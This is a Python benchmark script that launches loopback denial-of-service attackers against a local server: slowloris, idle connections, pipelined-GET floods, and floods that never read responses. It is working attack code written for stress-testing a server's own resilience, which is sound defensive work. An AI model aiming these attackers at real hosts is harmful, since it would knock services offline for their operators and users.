#!/usr/bin/env python3
"""Loopback attackers for bench/attacks: each runs until killed.

  attacker.py slowloris PORT N     N connections trickling a header, a byte
                                   at a time, never finishing it
  attacker.py idle PORT N          N connections that connect and say nothing
  attacker.py flood PORT N         N connections sending 64 pipelined GETs per
                                   write and reading what comes back
  attacker.py noread PORT N        N connections pipelining GETs and never
                                   reading a byte of the answers
"""
import asyncio
import sys

REQUEST = b"GET /world/ HTTP/1.1\r\nHost: bench\r\n\r\n"


async def slowloris(port):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            header = b"GET /world/ HTTP/1.1\r\nHost: bench\r\nX-Pad: " + b"a" * 4000
            for byte in header:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
        except (ConnectionError, OSError):
            await asyncio.sleep(0.5)


async def idle(port, opened):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            opened[0] += 1
            await reader.read()  # returns when the server closes it
            opened[0] -= 1
        except (ConnectionError, OSError):
            await asyncio.sleep(0.5)


async def flood(port):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            while True:
                writer.write(REQUEST * 64)
                await writer.drain()
                await reader.read(1 << 20)
        except (ConnectionError, OSError):
            await asyncio.sleep(0.1)


async def noread(port):
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            while True:
                writer.write(REQUEST * 64)
                await writer.drain()  # blocks once the server stops reading
        except (ConnectionError, OSError):
            await asyncio.sleep(0.5)


async def report(opened):
    while True:
        await asyncio.sleep(1)
        print(f"open {opened[0]}", flush=True)


async def main():
    kind, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    opened = [0]
    tasks = []
    for i in range(count):
        if kind == "slowloris":
            tasks.append(slowloris(port))
        elif kind == "idle":
            tasks.append(idle(port, opened))
        elif kind == "flood":
            tasks.append(flood(port))
        else:
            tasks.append(noread(port))
        if i % 200 == 199:
            await asyncio.sleep(0.05)  # do not overrun the listen backlog
    tasks.append(report(opened))
    await asyncio.gather(*tasks)


asyncio.run(main())
